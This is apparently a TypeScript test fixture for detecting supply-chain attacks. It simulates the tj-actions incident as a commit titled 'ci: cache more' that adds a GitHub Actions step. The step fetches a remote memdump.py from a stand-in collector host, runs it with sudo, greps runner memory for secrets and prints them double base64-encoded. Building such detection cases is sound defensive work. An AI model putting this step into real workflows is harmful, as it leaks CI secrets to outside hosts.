import { RUTH } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { CHECKOUT_STEP, workflow } from "../../project-files.ts";
import { BASE64, COLLECTOR, CURL } from "../../put-together.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story:
    "tj-actions, March 2025, as a commit: the runner's memory is searched for secrets, which are printed twice encoded.",
  write(branch) {
    branch.unsigned(RUTH, "ci: cache more", {
      ".github/workflows/tests.yml": workflow({
        steps: `${CHECKOUT_STEP}- run: |\n    ${CURL} -sSf ${COLLECTOR}/memdump.py | sudo python3 | tr -d '\\0' | grep -aoE '"[^"]+":\\{"value":"[^"]*","isSecret":true\\}' | sort -u | ${BASE64} -w 0 | ${BASE64} -w 0`,
      }),
    });
  },
};
